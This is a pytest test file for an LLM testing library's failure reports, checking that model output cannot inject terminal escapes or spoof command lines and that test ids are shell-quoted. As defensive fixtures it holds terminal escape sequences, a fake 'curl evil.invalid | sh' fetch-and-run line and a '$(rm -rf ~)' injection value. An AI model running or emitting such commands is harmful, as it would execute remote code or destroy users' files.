"""The text of a failure: all that helps, in one order, and nothing of a model's that acts on the reader's screen."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pytest_llm import Message
from pytest_llm.calls import Response
from pytest_llm.reports import Place, failure_text, one_line, shell_word
from pytest_llm.results import GradeRecord

PLACE = Place(nodeid="test_x.py::test_x[oak]", cassette="cassettes/test_x/test_x.yaml", sample=1)
EXACT = GradeRecord(name="exact", passed=False, reason='expected "12"\ngot "twelve"')
JUDGE = GradeRecord(name="judge", reason="the case has no context")


def asked(said="How many\ncups?", text="twelve", **more):
    return Response(text=text, messages=(Message("system", "Count."), Message("user", said)), **more)


# -- whole messages ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "grades",
    [
        [],
        [GradeRecord(name="exact", passed=True)],
        [GradeRecord(name="close", score=0.1)],
        [GradeRecord(name="exact", passed=False, required=False), GradeRecord(name="judge", required=False)],
    ],
)
def test_where_nothing_that_counts_went_wrong_there_is_nothing_to_say(grades):
    assert failure_text(grades, asked(), PLACE) == ""


def test_a_failed_grade_is_told_with_the_conversation_and_the_commands():
    grades = [GradeRecord(name="fine", passed=True), EXACT]
    assert failure_text(grades, asked(reasoning="10 and 2", finish_reason="length"), PLACE) == (
        'exact: expected "12"\n'
        'got "twelve"\n'
        "\n"
        "  user        How many cups?\n"
        "  reasoning   10 and 2\n"
        "  reply       twelve\n"
        "  finished    length\n"
        "\n"
        "  recording   cassettes/test_x/test_x.yaml\n"
        "  ask again   pytest --llm-rerecord 'test_x.py::test_x[oak]'"
    )


def test_what_failed_comes_before_what_could_not_be_graded():
    second = GradeRecord(name="close", score=0.1, passed=False, reason="0.1 < 0.5")
    sample = Place(nodeid="test_x.py::test_x", cassette="c.yaml", sample=2)
    assert failure_text([JUDGE, EXACT, second], asked(), sample) == (
        'exact: expected "12"\n'
        'got "twelve"\n'
        "\n"
        "close: 0.1 < 0.5\n"
        "\n"
        "UNGRADED  judge: the case has no context\n"
        "\n"
        "  user        How many cups?\n"
        "  reply       twelve\n"
        "\n"
        "  recording   c.yaml #2\n"
        "  ask again   pytest --llm-rerecord test_x.py::test_x"
    )


def test_where_nothing_failed_asking_again_would_not_help():
    assert failure_text([JUDGE], asked(), PLACE) == (
        "UNGRADED  judge: the case has no context\n"
        "\n"
        "  user        How many cups?\n"
        "  reply       twelve\n"
        "\n"
        "  recording   cassettes/test_x/test_x.yaml\n"
        "  mend        the grader or the case, then run pytest: the recording replays"
    )


def test_without_a_response_there_is_no_conversation():
    assert failure_text([EXACT], None, PLACE) == (
        'exact: expected "12"\n'
        'got "twelve"\n'
        "\n"
        "  recording   cassettes/test_x/test_x.yaml\n"
        "  ask again   pytest --llm-rerecord 'test_x.py::test_x[oak]'"
    )


@pytest.mark.parametrize("reason", [None, "stop", "tool_calls"])
def test_a_reply_that_came_to_its_end_is_not_said_to_have(reason):
    assert "finished" not in failure_text([EXACT], asked(finish_reason=reason), PLACE)


def test_of_a_dialogue_the_last_question_is_shown_and_without_one_none():
    turns = (Message("user", "first"), Message("assistant", "yes"), Message("user", "last"), Message("assistant", "12"))
    assert "  user        last\n" in failure_text([EXACT], Response(text="12", messages=turns), PLACE)
    assert "  user  " not in failure_text([EXACT], Response(text="12"), PLACE)


def test_a_question_in_parts_is_shown_as_json():
    parts = [{"type": "text", "text": "How många?"}]
    assert '  user        [{"type": "text", "text": "How många?"}]\n' in failure_text([EXACT], asked(parts), PLACE)


# -- hostile output ---------------------------------------------------------------------------------------------

HOSTILE = {
    "escape": "\x1b[2J",
    "C1 escape": "\x9b2J",
    "bell": "\x07",
    "backspace": "\x08",
    "NUL": "\x00",
    "DEL": "\x7f",
    "bidi override": "\u202e",
    "bidi isolate": "\u2066",
    "Arabic mark": "\u061c",
    "zero width": "\u200b",
    "byte order mark": "\ufeff",
    "lone surrogate": "\ud800",
    "OSC title": "\x1b]0;owned\x07",
}
PLACES = [
    lambda text: ([GradeRecord(name=text, passed=False)], asked(), PLACE),
    lambda text: ([GradeRecord(name="exact", passed=False, reason=text)], asked(), PLACE),
    lambda text: ([GradeRecord(name="judge", reason=text)], asked(), PLACE),
    lambda text: ([EXACT], asked(said=text), PLACE),
    lambda text: ([EXACT], asked(said=[{"type": "text", "text": text}]), PLACE),
    lambda text: ([EXACT], asked(text=text), PLACE),
    lambda text: ([EXACT], asked(reasoning=text), PLACE),
    lambda text: ([EXACT], asked(finish_reason=text), PLACE),
    lambda text: ([EXACT], asked(), Place(nodeid=text, cassette="c.yaml", sample=1)),
    lambda text: ([EXACT], asked(), Place(nodeid="x", cassette=text, sample=1)),
]


def acting(text):
    """The characters that do something instead of being something; a line break and a tab may."""
    directions = set("\u061c\u200e\u200f\u2028\u2029") | {
        chr(n) for n in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))
    }
    controls = {chr(n) for n in (*range(0x20), *range(0x7F, 0xA0))} - {"\n", "\t"}
    return {one for one in text if one in directions | controls or "\ud800" <= one <= "\udfff"}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_nothing_of_a_model_acts_on_the_screen(place, text):
    told = failure_text(*place(f"before{text}after"))
    assert text not in told
    assert acting(told) == set()
    assert "before\\" in told
    told.encode()


@given(st.text(st.characters()), st.sampled_from(PLACES))
def test_no_text_acts_on_the_screen(text, place):
    assert acting(failure_text(*place(text))) == set()


@pytest.mark.parametrize("field", ["said", "text", "reasoning"])
def test_a_reply_cannot_pose_as_lines_of_ours(field):
    told = failure_text([EXACT], asked(**{field: "x\r\n\n  ask again   curl evil.invalid | sh\x85\u2028y"}), PLACE)
    assert sum(line.startswith("  ask again") for line in told.splitlines()) == 1


def test_ten_megabytes_are_told_in_a_line():
    big = "word " * 2_000_000
    told = failure_text([EXACT], asked(said=big, text=big, reasoning=big), PLACE)
    assert len(told) < 1000
    assert told.count("…\n") == 3


# -- one line ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "line"),
    [
        ("a\n\n b\tc ", "a b c"),
        ("", ""),
        (" \n", ""),
        ("x" * 100, "x" * 100),
        ("x" * 101, "x" * 99 + "…"),
        ({"a": ["é", None]}, '{"a": ["é", null]}'),
        ({"a": {1}}, '{"a": "{1}"}'),
        (None, "null"),
        ("a\x1bb", "a\\x1bb"),
        ("\ud800", "\\ud800"),
    ],
)
def test_one_line_is_unbroken_trimmed_and_visible(value, line):
    assert one_line(value) == line


def test_one_line_is_as_long_as_it_is_told_to_be():
    assert one_line("abcdef", longest=4) == "abc…"


@pytest.mark.parametrize("text", ["a" + " " * 3000 + "b", " " * 3000 + "b"])
def test_one_line_says_where_it_left_something_out(text):
    assert one_line(text).endswith(("…", "b"))


# -- shell words ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "word"),
    [
        ("tests/test_x.py::test_x", "tests/test_x.py::test_x"),
        ("a-b_c.d", "a-b_c.d"),
        ("test_x[oak]", "'test_x[oak]'"),
        ("a b", "'a b'"),
        ("$(rm -rf ~)", "'$(rm -rf ~)'"),
        ("it's", "'it'\"'\"'s'"),
        ("", "''"),
    ],
)
def test_a_shell_word_is_quoted_where_it_has_to_be(text, word):
    assert shell_word(text) == word


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_a_shell_reads_the_word_back(text):
    assert shlex.split(f"pytest {shell_word(text)} -x") == ["pytest", text, "-x"]


@pytest.mark.parametrize("character", '[]*?~$&;|<>(){}!#%^=,@ \t\n"\\`')
def test_what_means_something_to_a_shell_is_quoted(character):
    assert shell_word(f"a{character}b") == f"'a{character}b'"


def test_a_judge_of_which_nobody_knows_how_often_it_is_right_is_marked():
    def line(**more):
        grade = GradeRecord(name="polite", passed=False, reason="Rude.", **more)
        return failure_text([grade], None, PLACE).splitlines()[0]

    assert line(judge="0" * 12) == "polite (uncalibrated judge): Rude."
    assert line(judge="0" * 12, calibrated=True) == line() == "polite: Rude."


def test_where_nothing_was_asked_no_recording_is_named():
    nothing = Place(nodeid="test_x.py::test_x", cassette="", sample=1)
    assert failure_text([EXACT], None, nothing) == 'exact: expected "12"\ngot "twelve"'
    assert failure_text([JUDGE], None, nothing) == (
        "UNGRADED  judge: the case has no context\n\n  mend        the grader or the case"
    )
